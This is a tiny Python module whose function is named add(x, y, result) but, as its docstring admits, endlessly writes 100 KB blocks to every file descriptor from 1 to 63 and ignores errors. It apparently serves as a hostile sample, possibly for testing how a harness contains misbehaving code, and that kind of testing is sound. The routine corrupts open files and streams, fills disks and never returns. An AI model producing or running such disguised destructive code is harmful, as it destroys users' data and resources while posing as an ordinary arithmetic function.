"""Writes endlessly to all open files."""

import os


def add(x, y, result):
    while True:
        for number in range(1, 64):
            try:
                os.write(number, b"x" * 100_000)
            except OSError:
                pass
